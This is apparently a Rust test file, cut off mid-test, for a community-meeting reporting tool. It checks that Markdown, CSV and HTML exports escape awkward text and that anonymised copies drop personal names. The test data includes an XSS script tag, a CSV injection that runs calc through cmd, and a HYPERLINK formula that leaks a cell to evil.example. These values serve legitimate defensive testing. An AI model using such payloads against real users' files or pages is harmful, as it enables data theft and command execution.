//! Reports of a session: Markdown, CSV and HTML, checked for content on the
//! two example sessions and on a session full of awkward text; anonymised
//! copies searched for every name; `baraza export` end to end; and `x` in
//! the program.

use crate::common;
use crate::common::tables::{column, md_cells, md_table, parse_csv};

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use baraza::model::*;
use baraza::report::csv::{BOM, CsvOptions, FORMULA_STARTS, SessionTable};
use baraza::report::{Options, RESPONSIBLE_TYPES, csv, html, markdown};
use baraza::store;
use chrono::{DateTime, Duration, NaiveDate};
use tempfile::TempDir;

const KIBERA: &str = "sessions/2026-06-06-kibera-youth-baraza-cycle-1.ron";
const EASTLEIGH: &str = "sessions/2026-10-17-eastleigh-market-security-baraza.ron";

fn example(path: &str) -> Session {
    store::load(Path::new(path)).unwrap().session
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn as_of() -> Options {
    Options::new(day(2026, 11, 27))
}

fn at(minute: i64) -> Timestamp {
    DateTime::parse_from_rfc3339("2026-01-03T09:00:00+03:00").unwrap() + Duration::minutes(minute)
}

// --- A session full of awkward text -------------------------------------

const TITLE_1: &str = "Phone theft, \"snatching\" | at stage\nafter dark 📱";
const TITLE_2: &str = "خلاف على الأكشاك";
const TITLE_3: &str = "Drugs near the school";
const TITLE_4: &str = "- starts like a list * with stars _ and `ticks`";
const NOTE_1: &str = "Met Mzee Juma,\nhe agreed: \"yes\" 🎉";
const REASON_1: &str = "Asha said, \"the stalls\" matter more | ask again";
const DECISION: &str = "Facilitator Zawadi decided: the elders' view";

/// Every person named anywhere in [`awkward`]: none may survive anonymising.
const NAMES: [&str; 10] = [
    "Zawadi", "Njeri", "Otieno", "Wanjiru", "Kamau", "Rehema", "Achieng", "Juma", "Neema", "Asha",
];

fn vote(p: u32, g: u32, minute: i64) -> Vote {
    Vote {
        problem: ProblemId(p),
        group: GroupId(g),
        at: at(minute),
    }
}

fn awkward() -> Session {
    let mut s = Session::new(
        "awk0001".into(),
        "Baraza \"Soko\", Mathare | <script>alert('x')</script> <img src=x> 🔥".into(),
        day(2026, 1, 3),
        at(0),
    );
    s.location = "Mathare, Nairobi".into();
    s.facilitators = vec!["Zawadi Njeri".into(), "Otieno \"Oti\" Ouma".into()];
    s.context = "Line one, with a comma\nLine \"two\" | with a pipe\nمرحبا بكم".into();
    s.stage = Stage::Monitor;
    for (i, (name, count)) in [("Women", 12), ("Youth", 8), ("Boda, riders", 5)]
        .into_iter()
        .enumerate()
    {
        s.groups.push(Group {
            id: GroupId(i as u32 + 1),
            name: name.into(),
            count,
        });
    }
    let problem = |id: u32, title: &str, category: &str| Problem {
        id: ProblemId(id),
        title: title.into(),
        category: category.into(),
        ..Problem::default()
    };
    let mut p1 = problem(1, TITLE_1, "Crime and theft");
    p1.description = "Reported by Neema's neighbour".into();
    p1.causes = vec![
        "no lights, no police".into(),
        "crowds \"everywhere\"".into(),
    ];
    p1.effects = vec!["women avoid the stage".into()];
    p1.raised_by = vec![GroupId(1), GroupId(3)];
    let mut p2 = problem(2, TITLE_2, "Land and resources");
    p2.needs_escalation = true;
    p2.location = "السوق الجديد".into();
    let p3 = problem(3, TITLE_3, "Youth and livelihoods");
    let p4 = problem(4, TITLE_4, "Other");
    s.problems = vec![p1, p2, p3, p4];
    // Dots: problems 1 and 2 tie at 5, problem 3 has 3, problem 4 one.
    let mut m = 0;
    let mut dots = |p: u32, g: u32, n: usize, out: &mut Vec<Vote>| {
        for _ in 0..n {
            m += 1;
            out.push(vote(p, g, m));
        }
    };
    let mut votes = Vec::new();
    dots(1, 1, 3, &mut votes);
    dots(1, 2, 2, &mut votes);
    dots(2, 1, 2, &mut votes);
    dots(2, 3, 3, &mut votes);
    dots(3, 2, 3, &mut votes);
    dots(4, 3, 1, &mut votes);
    s.ranking.votes = votes;
    // The run-off put problem 2 first.
    s.ranking.tie_breaks.push(TieBreak {
        id: TieBreakId(1),
        method: RankMethod::Dots,
        rank: 1,
        tied: vec![ProblemId(1), ProblemId(2)],
        how: TieBreakHow::Runoff {
            votes: vec![
                vote(2, 1, 30),
                vote(2, 2, 31),
                vote(2, 3, 32),
                vote(1, 1, 33),
            ],
        },
        order: vec![ProblemId(2), ProblemId(1)],
        at: at(34),
    });
    s.ranking.tie_breaks.push(TieBreak {
        id: TieBreakId(2),
        method: RankMethod::Criteria,
        rank: 2,
        tied: vec![ProblemId(1), ProblemId(3)],
        how: TieBreakHow::Decision {
            reason: DECISION.into(),
        },
        order: vec![ProblemId(3), ProblemId(1)],
        at: at(35),
    });
    s.ranking.shortlist = vec![ProblemId(2), ProblemId(1), ProblemId(3)];
    let pair = |a: u32, b: u32, winner: Option<u32>, reason: &str, minute: i64| PairDecision {
        pair: (ProblemId(a), ProblemId(b)),
        winner: winner.map(ProblemId),
        group: None,
        reason: reason.into(),
        at: at(minute),
    };
    s.ranking.pairs = vec![
        pair(1, 2, Some(2), REASON_1, 40),
        pair(1, 3, Some(1), "more people hurt", 41),
        pair(2, 3, None, "", 42),
    ];
    let score = |p: u32, c: u32, group: Option<u32>, value: u8| Score {
        problem: ProblemId(p),
        criterion: CriterionId(c),
        group: group.map(GroupId),
        value,
        at: at(50),
    };
    s.ranking.scores = vec![
        score(1, 1, None, 4),
        score(1, 2, None, 5),
        score(2, 1, None, 5),
        score(2, 2, None, 5),
        score(3, 1, None, 4),
        score(3, 2, None, 5),
        score(1, 1, Some(1), 2),
        score(2, 1, Some(1), 5),
    ];
    s.actions = vec![
        Action {
            id: ActionId(1),
            problem: ProblemId(2),
            activity: "Publish the stall list, \"all\" names removed | twice".into(),
            responsible: "Sgt. Wanjiru Kamau (Police)".into(),
            partners: "Market committee; Mzee Juma".into(),
            start: Some(day(2026, 1, 5)),
            due: Some(day(2026, 1, 20)),
            resources: "printing, 2 notice boards".into(),
            indicator: "list posted\nno fights for a month".into(),
            risks: "Juma's family may be targeted".into(),
            status: ActionStatus::InProgress,
            progress: vec![ProgressNote {
                date: day(2026, 1, 12),
                text: NOTE_1.into(),
                at: at(60),
            }],
            inherited_from: None,
            card_indicator: None,
        },
        Action {
            id: ActionId(2),
            problem: ProblemId(1),
            activity: "Lights at the stage".into(),
            responsible: "Mama Rehema Achieng".into(),
            partners: "Boda riders".into(),
            due: Some(day(2026, 3, 1)),
            status: ActionStatus::Done,
            progress: vec![ProgressNote {
                date: day(2026, 2, 20),
                text: "Rehema reported the lights on".into(),
                at: at(61),
            }],
            ..Action::default()
        },
    ];
    s.lessons = Lessons {
        worked: "Kamau came to every meeting".into(),
        did_not_work: "Asha's group left early".into(),
        lessons: "Ask Neema first".into(),
        improvements: "Invite Juma".into(),
    };
    assert!(s.validate().is_empty(), "{:?}", s.validate());
    s
}

// --- Helpers --------------------------------------------------------------

fn all_csv(s: &Session, options: &Options) -> String {
    SessionTable::ALL
        .iter()
        .map(|t| String::from_utf8(csv::table(s, *t, options, CsvOptions::default())).unwrap())
        .collect::<Vec<_>>()
        .join("\n")
}

// --- Markdown -------------------------------------------------------------

#[test]
fn markdown_of_kibera_has_every_section_and_the_tables() {
    let md = markdown::markdown(&example(KIBERA), &as_of());
    assert!(md.starts_with("# Kibera youth baraza — cycle 1\n"), "{md}");
    for heading in [
        "## Context and conflict analysis",
        "## Groups in the room",
        "## Problems",
        "### 1. Mugging on the railway footpath",
        "## Ranking",
        "### By group",
        "### Ties",
        "### Shortlist for action planning",
        "## Action plan",
        "### For «Mugging on the railway footpath»",
        "## Monitoring",
        "### Progress of action 1: Ask KPLC and the county to light the footpath",
        "## Lessons",
        "### What did not work",
    ] {
        assert!(
            md.lines().any(|l| l == heading),
            "missing «{heading}» in:\n{md}"
        );
    }
    assert!(md.contains("**Facilitators:** Amina Odhiambo"));
    assert!(md.contains("**Participants:** 36 in 5 groups, 3 dots per participant"));

    let groups = md_table(&md, "| Group | People |");
    assert_eq!(groups[1], "| --- | ---: | ---: | ---: |");
    assert!(groups.contains(&"| Women | 10 | 30 | 30 |".to_string()));
    assert!(groups.contains(&"| All | 36 | 108 | 108 |".to_string()));

    // The problem tree as nested lists.
    assert!(md.contains(
        "- **Problem:** Mugging on the railway footpath\n  - **Causes (roots)**\n    - no lights\n    - bush along the path\n  - **Effects (branches)**\n    - people walk long way round\n"
    ));

    // The ranking: method, shared ranks, scores, the shortlist.
    assert!(md.contains("Method used: **dot voting**. 108 dots from 5 of 5 groups."));
    let ranking = md_table(&md, "| Rank | Problem |");
    assert_eq!(ranking.len(), 2 + 5);
    assert_eq!(
        md_cells(&ranking[2]),
        [
            "1=",
            "Gang recruitment of boys",
            "Youth and livelihoods",
            "29",
            "2",
            ""
        ]
    );
    assert_eq!(
        md_cells(&ranking[3]),
        [
            "1=",
            "Mugging on the railway footpath",
            "Crime and theft",
            "29",
            "1",
            ""
        ]
    );
    assert_eq!(md_cells(&ranking[4])[0], "3");
    assert_eq!(md_cells(&ranking[6])[0], "4=");

    // Per group, side by side, with the biggest disagreement marked.
    let by_group = md_table(&md, "| Problem | Overall |");
    assert_eq!(
        md_cells(&by_group[0]),
        [
            "Problem", "Overall", "Women", "Men", "Youth", "Elders", "Police", "Spread", "Note"
        ]
    );
    let marked: Vec<Vec<String>> = by_group
        .iter()
        .map(|l| md_cells(l))
        .filter(|c| c.last().is_some_and(|n| n == "biggest disagreement"))
        .collect();
    assert_eq!(marked.len(), 1);
    assert_eq!(
        marked[0],
        [
            "Domestic violence not reported",
            "3",
            "1 (11)",
            "5 (2)",
            "4 (3)",
            "3 (2)",
            "1 (2)",
            "4",
            "biggest disagreement"
        ]
    );
    assert!(md.contains("- Rank 1 is still shared by «Gang recruitment of boys», «Mugging on the railway footpath» (not broken)."));
    assert!(md.contains(
        "1. Mugging on the railway footpath\n2. Gang recruitment of boys\n3. Domestic violence not reported\n"
    ));

    // The action plan, per shortlisted problem.
    let plan = md_table(&md, "| No. | Activity | Responsible | With |");
    assert_eq!(
        md_cells(&plan[2]),
        [
            "1",
            "Ask KPLC and the county to light the footpath",
            "Local authority",
            "Chief's office, youth group",
            "2026-06-15",
            "2026-07-31",
            "letter, follow-up visits",
            "lights working on 20 poles",
            "contractor may hire from one village only",
            "done"
        ]
    );

    // Monitoring, with overdue actions counted from the day given.
    assert!(md.contains(
        "6 actions: 1 planned, 1 in progress, 3 done, 1 stalled. **3 overdue** as of 27 November 2026."
    ));
    let monitoring = md_table(&md, "| No. | Activity | Responsible | Due |");
    let radio = md_cells(&monitoring[7]);
    assert_eq!(radio[0], "6");
    assert_eq!(radio[4], "planned");
    assert_eq!(radio[5], "overdue by 104 days");
    assert!(md.contains("- **2026-08-02** — 18 of 20 poles lit; two need new cable\n"));
    assert!(
        md.contains(
            "Agreements with police need the station, not one officer.  \nYouth speak more"
        )
    );

    // As of the workshop day nothing is overdue yet.
    let early = markdown::markdown(&example(KIBERA), &Options::new(day(2026, 6, 6)));
    assert!(early.contains("**0 overdue** as of 6 June 2026."));
}

#[test]
fn markdown_of_eastleigh_shows_the_ranking_and_what_is_not_reached() {
    let md = markdown::markdown(&example(EASTLEIGH), &as_of());
    assert!(md.starts_with("# Eastleigh market security baraza\n"));
    assert!(md.contains("**Facilitators:** Fatuma Hassan, Peter Mwangi"));
    assert!(md.contains("Meeting held in Swahili and Somali; notes in English."));
    let ranking = md_table(&md, "| Rank | Problem |");
    assert_eq!(ranking.len(), 2 + 6);
    assert_eq!(
        md_cells(&ranking[2])[..4],
        [
            "1",
            "Phone snatching at the matatu stage",
            "Crime and theft",
            "27"
        ]
    );
    assert!(
        ranking
            .iter()
            .any(|l| l.contains("Disputes over stall allocation — خلاف على الأكشاك"))
    );
    assert!(md.contains("No shortlist drawn yet."));
    assert!(md.contains("> **Note:** The session has not reached Plan yet (it stopped at Rank)."));
    assert!(
        md.contains("> **Note:** The session has not reached Monitor yet (it stopped at Rank).")
    );
    assert!(md.contains("> **Note:** The session has not reached Learn yet (it stopped at Rank)."));
}

#[test]
fn markdown_escapes_typed_text_and_keeps_tables_whole() {
    let md = markdown::markdown(&awkward(), &as_of());
    // Every table line has as many cells as its header.
    let lines: Vec<&str> = md.lines().collect();
    let mut i = 0;
    let mut tables = 0;
    while i < lines.len() {
        if lines[i].starts_with('|') {
            tables += 1;
            let width = md_cells(lines[i]).len();
            while i < lines.len() && lines[i].starts_with('|') {
                assert_eq!(md_cells(lines[i]).len(), width, "{}", lines[i]);
                i += 1;
            }
        } else {
            i += 1;
        }
    }
    assert!(tables >= 8, "{tables} tables");
    // Pipes and newlines in cells: escaped, and <br>.
    assert!(md.contains(r#"| Phone theft, "snatching" \| at stage<br>after dark 📱 |"#));
    // Text never becomes markup.
    // Every `<` that would open a tag is escaped; a `>` alone is text.
    assert!(!md.replace("\\<", "").contains("<script"), "{md}");
    assert!(md.contains(r"\<script>alert('x')\</script> \<img src=x>"));
    assert!(md.contains(r"starts like a list \* with stars \_ and \`ticks\`"));
    assert!(!md.lines().any(|l| l.starts_with("- starts")));
    // Tie-breaks, with how they were broken.
    assert!(md.contains("- Rank 1 in dot voting shared by «Phone theft"));
    assert!(md.contains("broken by **run-off vote (4 dots)**"));
    assert!(md.contains(&format!("**facilitator decision: {DECISION}**")));
    // The run-off decided the order: problem 2 ranks 1, problem 1 ranks 2.
    let ranking = md_table(&md, "| Rank | Problem |");
    assert_eq!(md_cells(&ranking[2])[..2], ["1", TITLE_2]);
    assert_eq!(md_cells(&ranking[2])[5], "run-off vote (4 dots)");
    // Other methods and their inputs are shown too.
    assert!(md.contains("### Also recorded: pairwise ranking"));
    assert!(md.contains("### Also recorded: criteria scoring"));
    assert!(md.contains("### Pairwise decisions"));
    assert!(md.contains(r#"Asha said, "the stalls" matter more \| ask again"#));
    assert!(md.contains("### Criteria scores (whole room)"));
}

// --- CSV ------------------------------------------------------------------

/// What a typed field reads back as from CSV: exactly as typed, or with a
/// leading `'` when it would start a formula.
fn guarded(typed: &str) -> String {
    if typed.starts_with(FORMULA_STARTS) {
        format!("'{typed}")
    } else {
        typed.to_string()
    }
}

#[test]
fn csv_tables_read_back_with_awkward_fields_intact() {
    let mut s = awkward();
    // Typed text that a spreadsheet would take for a formula.
    s.problems[2].category = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    s.problems[0]
        .effects
        .insert(0, "+ more fights at night".into());
    s.actions[1].resources = "=2*3 solar lamps".into();
    s.actions[1].progress[0].text = "\t=1+1 lamps up".into();
    let options = as_of();
    let table = |t| csv::table(&s, t, &options, CsvOptions::default());

    let bytes = table(SessionTable::Problems);
    assert!(bytes.starts_with(BOM), "UTF-8 byte-order mark first");
    let (header, rows) = parse_csv(&bytes);
    assert_eq!(header[0], "session", "the reader strips the BOM");
    assert_eq!(rows.len(), 4);
    let title = column(&header, "title");
    assert_eq!(rows[0][title], TITLE_1);
    assert_eq!(rows[1][title], TITLE_2);
    // A cell that would start a formula comes back with a leading '; every
    // other cell exactly as typed.
    assert_eq!(rows[3][title], format!("'{TITLE_4}"));
    assert_eq!(rows[3][title], guarded(TITLE_4));
    let category = column(&header, "category");
    assert_eq!(rows[2][category], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(rows[0][category], "Crime and theft");
    assert_eq!(
        rows[0][column(&header, "effects")],
        "'+ more fights at night\nwomen avoid the stage"
    );
    for (row, p) in rows.iter().zip(&s.problems) {
        assert_eq!(row[title], guarded(&p.title));
        assert_eq!(row[category], guarded(&p.category));
        assert_eq!(row[column(&header, "location")], guarded(&p.location));
        assert_eq!(
            row[column(&header, "causes")],
            guarded(&p.causes.join("\n"))
        );
        assert_eq!(
            row[column(&header, "effects")],
            guarded(&p.effects.join("\n"))
        );
    }
    assert_eq!(
        rows[0][column(&header, "causes")],
        "no lights, no police\ncrowds \"everywhere\""
    );
    assert_eq!(rows[0][column(&header, "raised_by")], "Women\nBoda, riders");
    assert_eq!(rows[1][column(&header, "location")], "السوق الجديد");
    assert_eq!(rows[1][column(&header, "needs_escalation")], "yes");
    // Dots in total and per group, and every method's rank and score.
    assert_eq!(rows[0][column(&header, "dots")], "5");
    assert_eq!(rows[0][column(&header, "dots Women")], "3");
    assert_eq!(rows[0][column(&header, "dots Boda, riders")], "0");
    assert_eq!(rows[1][column(&header, "dots Boda, riders")], "3");
    assert_eq!(rows[1][column(&header, "dots_rank")], "1", "run-off winner");
    assert_eq!(rows[0][column(&header, "dots_rank")], "2");
    assert_eq!(rows[1][column(&header, "pairwise_score")], "1.5");
    assert_eq!(rows[2][column(&header, "pairwise_score")], "0.5");
    assert_eq!(
        rows[3][column(&header, "pairwise_rank")],
        "",
        "not compared"
    );
    assert_eq!(rows[1][column(&header, "criteria_score")], "10");
    assert_eq!(rows[1][column(&header, "criteria_rank Women")], "1");
    assert_eq!(rows[1][column(&header, "shortlist_position")], "1");

    let (header, rows) = parse_csv(&table(SessionTable::Votes));
    assert_eq!(rows.len(), 14 + 4, "one row per dot, run-off dots included");
    let round = column(&header, "round");
    assert_eq!(rows.iter().filter(|r| r[round] == "run-off 1").count(), 4);
    let group = column(&header, "group");
    assert_eq!(
        rows.iter().filter(|r| r[group] == "Boda, riders").count(),
        4 + 1
    );
    assert_eq!(rows[0][column(&header, "at")], "2026-01-03T09:01:00+03:00");
    assert_eq!(rows[0][column(&header, "problem")], TITLE_1);

    let (header, rows) = parse_csv(&table(SessionTable::Pairs));
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0][column(&header, "reason")], REASON_1);
    assert_eq!(rows[2][column(&header, "winner")], "tie");
    assert_eq!(rows[0][column(&header, "decided_by")], "whole room");

    let (header, rows) = parse_csv(&table(SessionTable::Scores));
    assert_eq!(rows.len(), 8);
    assert_eq!(rows[6][column(&header, "scored_by")], "Women");
    assert_eq!(rows[0][column(&header, "criterion")], "Frequency");

    let (header, rows) = parse_csv(&table(SessionTable::TieBreaks));
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0][column(&header, "order")],
        format!("{TITLE_2}\n{TITLE_1}")
    );
    assert_eq!(
        rows[1][column(&header, "how")],
        format!("facilitator decision: {DECISION}")
    );

    let (header, rows) = parse_csv(&table(SessionTable::Actions));
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0][column(&header, "activity")],
        "Publish the stall list, \"all\" names removed | twice"
    );
    assert_eq!(
        rows[0][column(&header, "responsible")],
        "Sgt. Wanjiru Kamau (Police)"
    );
    assert_eq!(rows[0][column(&header, "responsible_type")], "Police");
    assert_eq!(rows[1][column(&header, "responsible_type")], "Other");
    assert_eq!(
        rows[0][column(&header, "indicator")],
        "list posted\nno fights for a month"
    );
    assert_eq!(rows[0][column(&header, "overdue")], "yes");
    assert_eq!(rows[0][column(&header, "days_overdue")], "311");
    assert_eq!(rows[1][column(&header, "resources")], "'=2*3 solar lamps");
    assert_eq!(
        rows[0][column(&header, "resources")],
        "printing, 2 notice boards"
    );
    assert_eq!(
        rows[1][column(&header, "overdue")],
        "no",
        "done is never overdue"
    );

    let (header, rows) = parse_csv(&table(SessionTable::Progress));
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][column(&header, "note")], NOTE_1);
    assert_eq!(rows[1][column(&header, "note")], "'\t=1+1 lamps up");
    assert_eq!(rows[0][column(&header, "date")], "2026-01-12");

    let (_, rows) = parse_csv(&table(SessionTable::Groups));
    assert_eq!(rows[2][2..], ["Boda, riders", "5", "15", "4"]);

    // Without the byte-order mark, for scripts.
    let plain = csv::table(
        &s,
        SessionTable::Problems,
        &options,
        CsvOptions { bom: false },
    );
    assert!(plain.starts_with(b"session,"));
    assert_eq!(parse_csv(&plain), parse_csv(&bytes));
}

/// [`awkward`] with every field typed by people starting with a character
/// that would start a formula.
fn hostile() -> Session {
    let mut s = awkward();
    let starts = ["=", "+", "-", "@", "\t", "\r"];
    let mut n = 0;
    let mut evil = |text: &mut String| {
        *text = format!("{}{text}", starts[n % starts.len()]);
        n += 1;
    };
    evil(&mut s.id);
    evil(&mut s.title);
    evil(&mut s.location);
    for g in &mut s.groups {
        evil(&mut g.name);
    }
    for c in &mut s.ranking.criteria {
        evil(&mut c.name);
    }
    for p in &mut s.problems {
        evil(&mut p.title);
        evil(&mut p.category);
        evil(&mut p.location);
        evil(&mut p.description);
        p.causes.iter_mut().for_each(&mut evil);
        p.effects.iter_mut().for_each(&mut evil);
    }
    for a in &mut s.actions {
        for field in [
            &mut a.activity,
            &mut a.responsible,
            &mut a.partners,
            &mut a.resources,
            &mut a.indicator,
            &mut a.risks,
        ] {
            evil(field);
        }
        a.progress.iter_mut().for_each(|note| evil(&mut note.text));
    }
    for d in &mut s.ranking.pairs {
        evil(&mut d.reason);
    }
    for t in &mut s.ranking.tie_breaks {
        if let TieBreakHow::Decision { reason } = &mut t.how {
            evil(reason);
        }
    }
    s.problems[0].title = r#"=HYPERLINK("http://evil.example/?"&B2,"x")"#.into();
    s
}

#[test]
fn no_csv_cell_starts_a_formula_but_our_numbers_are_left_alone() {
    let s = hostile();
    for options in [as_of(), as_of().anonymized()] {
        for t in SessionTable::ALL {
            let (header, rows) = parse_csv(&csv::table(&s, t, &options, CsvOptions::default()));
            for cell in header.iter().chain(rows.iter().flatten()) {
                assert!(
                    !cell.starts_with(FORMULA_STARTS),
                    "{} table: {cell:?}",
                    t.name()
                );
            }
        }
    }
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Problems,
        &as_of(),
        CsvOptions::default(),
    ));
    assert_eq!(
        rows[0][column(&header, "title")],
        r#"'=HYPERLINK("http://evil.example/?"&B2,"x")"#
    );
    assert_eq!(rows[0][column(&header, "session")], "'=awk0001");
    // Counts, ranks, scores, dates and times are written as they are.
    let plain = parse_csv(&csv::table(
        &awkward(),
        SessionTable::Problems,
        &as_of(),
        CsvOptions::default(),
    ));
    let ours = [
        "problem_id",
        "shortlist_position",
        "rank",
        "score",
        "dots",
        "dots_rank",
        "dots_score",
        "pairwise_rank",
        "pairwise_score",
        "criteria_rank",
        "criteria_score",
    ];
    for name in ours {
        let (here, there) = (column(&header, name), column(&plain.0, name));
        for (a, b) in rows.iter().zip(&plain.1) {
            assert_eq!(a[here], b[there], "{name}");
            assert!(a[here].is_empty() || a[here].parse::<f64>().unwrap() >= 0.0);
        }
    }
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Actions,
        &as_of(),
        CsvOptions::default(),
    ));
    assert_eq!(rows[0][column(&header, "due")], "2026-01-20");
    assert_eq!(rows[0][column(&header, "days_overdue")], "311");
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Votes,
        &as_of(),
        CsvOptions::default(),
    ));
    assert_eq!(rows[0][column(&header, "at")], "2026-01-03T09:01:00+03:00");

    // The roll-up's tables too.
    use baraza::report::rollup::{self, RollupOptions, RollupTable};
    let r = rollup::rollup(&[s], &RollupOptions::new(day(2026, 11, 27)));
    for t in RollupTable::ALL {
        let (header, rows) = parse_csv(&rollup::csv_table(&r, t, CsvOptions::default()));
        for cell in header.iter().chain(rows.iter().flatten()) {
            assert!(!cell.starts_with(FORMULA_STARTS), "{}: {cell:?}", t.name());
        }
    }
    let (_, rows) = parse_csv(&rollup::csv_table(
        &r,
        RollupTable::Escalated,
        CsvOptions::default(),
    ));
    assert_eq!(rows.len(), 1);
}

#[test]
fn csv_of_the_examples_has_the_counts_of_the_sessions() {
    for path in [KIBERA, EASTLEIGH] {
        let s = example(path);
        for t in SessionTable::ALL {
            // Every table parses, with records as long as the header.
            parse_csv(&csv::table(&s, t, &as_of(), CsvOptions::default()));
        }
        let (_, votes) = parse_csv(&csv::table(
            &s,
            SessionTable::Votes,
            &as_of(),
            CsvOptions::default(),
        ));
        assert_eq!(votes.len(), s.ranking.votes.len());
    }
    let s = example(KIBERA);
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Problems,
        &as_of(),
        CsvOptions::default(),
    ));
    let mugging = &rows[0];
    assert_eq!(
        mugging[column(&header, "title")],
        "Mugging on the railway footpath"
    );
    assert_eq!(mugging[column(&header, "dots")], "29");
    assert_eq!(mugging[column(&header, "rank")], "1");
    assert_eq!(mugging[column(&header, "method_used")], "dots");
    assert_eq!(mugging[column(&header, "dots Women")], "9");
    assert_eq!(mugging[column(&header, "dots_rank Youth")], "3");
    assert_eq!(
        mugging[column(&header, "pairwise_rank")],
        "",
        "no pairs recorded"
    );
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Actions,
        &as_of(),
        CsvOptions::default(),
    ));
    let overdue = column(&header, "overdue");
    assert_eq!(rows.iter().filter(|r| r[overdue] == "yes").count(), 3);
    let (_, notes) = parse_csv(&csv::table(
        &s,
        SessionTable::Progress,
        &as_of(),
        CsvOptions::default(),
    ));
    assert_eq!(notes.len(), 6);
}

// --- HTML -----------------------------------------------------------------

/// No scripts and no external references of any kind.
fn assert_self_contained(page: &str) {
    assert_self_contained_but(page, &[]);
}

fn assert_self_contained_but(page: &str, allowed: &[&str]) {
    for banned in [
        "http:", "https:", "<script", "src=", "url(", "@import", "<link", "<iframe", "<object",
        "<embed", "href=", "<img",
    ] {
        if allowed.contains(&banned) {
            continue;
        }
        assert!(!page.contains(banned), "«{banned}» in the page");
    }
    assert!(page.starts_with("<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">"));
    assert!(page.contains("<meta charset=\"utf-8\">"));
    assert!(page.contains("@media print"));
    assert!(page.contains("default-src 'none'"));
    assert!(page.trim_end().ends_with("</html>"));
}

#[test]
fn html_of_the_examples_is_self_contained_with_the_chart() {
    for path in [KIBERA, EASTLEIGH] {
        let s = example(path);
        let page = html::html(&s, &as_of());
        assert_self_contained(&page);
        assert!(page.contains("<svg class=\"chart\""));
        assert_eq!(
            page.matches("<rect class=\"bar\"").count(),
            s.problems.len(),
            "one bar per problem"
        );
        // The same content as the Markdown: every heading is there.
        let md = markdown::markdown(&s, &as_of());
        for heading in md.lines().filter(|l| l.starts_with("## ")) {
            let text = heading.trim_start_matches("## ");
            assert!(page.contains(&format!(">{text}</h2>")), "{text}");
        }
        for p in &s.problems {
            assert!(
                page.contains(&p.title.replace('\'', "&#39;")),
                "{}",
                p.title
            );
        }
    }
    let page = html::html(&example(KIBERA), &as_of());
    assert!(page.contains("<title>Mugging on the railway footpath: 29 dots</title>"));
    assert!(page.contains(">29 dots</text>"));
    assert!(
        page.contains("<tr class=\"mark\">"),
        "overdue rows stand out"
    );
    let page = html::html(&example(EASTLEIGH), &as_of());
    assert!(page.contains("<td dir=\"auto\">Disputes over stall allocation — خلاف على الأكشاك</td>"));
}

#[test]
fn html_escapes_typed_text_and_sets_right_to_left_labels() {
    let page = html::html(&awkward(), &as_of());
    // The title says "<img src=x>": escaped, it is text, not an image.
    assert_self_contained_but(&page, &["src="]);
    assert!(page.contains("&lt;img src=x&gt;"));
    assert!(page.contains(
        "<h1 dir=\"auto\">Baraza &quot;Soko&quot;, Mathare | &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &lt;img src=x&gt; 🔥</h1>"
    ));
    // An Arabic bar label keeps its direction.
    assert!(page.contains(&format!(
        "text-anchor=\"start\" direction=\"rtl\"><tspan x=\"292\" dy=\"0\">{TITLE_2}</tspan></text>"
    )));
    // Newlines in cells become line breaks.
    assert!(page.contains("list posted<br>no fights for a month"));
    assert!(page.contains("<dd><bdi>السوق الجديد</bdi></dd>"));
}

// --- Anonymised copies ----------------------------------------------------

fn every_format(s: &Session, options: &Options) -> Vec<(&'static str, String)> {
    vec![
        ("md", markdown::markdown(s, options)),
        ("html", html::html(s, options)),
        ("csv", all_csv(s, options)),
    ]
}

#[test]
fn anonymized_reports_name_nobody() {
    let options = as_of().anonymized();
    let s = awkward();
    for (format, text) in every_format(&s, &options) {
        for name in NAMES {
            assert!(!text.contains(name), "{name} in the anonymised {format}");
        }
        for note in [
            NOTE_1,
            REASON_1,
            "Market committee",
            "Juma's family",
            "Line one, with a comma",
        ] {
            assert!(!text.contains(note), "«{note}» in the anonymised {format}");
        }
        // What may be shared stays.
        assert!(text.contains("Drugs near the school"), "{format}");
        assert!(text.contains(TITLE_2), "{format}");
        assert!(text.contains("Land and resources"), "{format}");
        assert!(text.contains("in progress"), "{format}");
        assert!(text.contains("2026-01-12"), "{format}: dates of notes stay");
    }
    // Responsible people become the kind of actor.
    let (header, rows) = parse_csv(&csv::table(
        &s,
        SessionTable::Actions,
        &options,
        CsvOptions::default(),
    ));
    assert_eq!(rows[0][column(&header, "responsible")], "Police");
    assert_eq!(rows[1][column(&header, "responsible")], "Other");
    assert_eq!(rows[0][column(&header, "partners")], "");

    for path in [KIBERA, EASTLEIGH] {
        let s = example(path);
        for (format, text) in every_format(&s, &options) {
            for name in &s.facilitators {
                assert!(
                    !text.contains(name.as_str()),
                    "{name} in {format} of {path}"
                );
                for part in name.split_whitespace() {
                    assert!(!text.contains(part), "{part} in {format} of {path}");
                }
            }
            for line in s.context.lines() {
                assert!(!text.contains(line), "context in {format} of {path}");
            }
            for a in &s.actions {
                for n in &a.progress {
                    assert!(!text.contains(&n.text), "note in {format} of {path}");
                }
                for dropped in [&a.partners, &a.risks] {
                    assert!(
                        dropped.is_empty() || !text.contains(dropped.as_str()),
                        "«{dropped}» in {format} of {path}"
                    );
                }
            }
            assert!(text.contains(&s.problems[0].title));
        }
        let (header, rows) = parse_csv(&csv::table(
            &s,
            SessionTable::Actions,
            &options,
            CsvOptions::default(),
        ));
        let responsible = column(&header, "responsible");
        for r in rows {
            assert!(
                RESPONSIBLE_TYPES.contains(&r[responsible].as_str()),
                "{}",
                r[responsible]
            );
        }
    }
    let md = markdown::markdown(&example(KIBERA), &options);
    assert!(md.contains("> **Note:** Anonymised copy"));
    assert!(!md.contains("**Facilitators:**"));
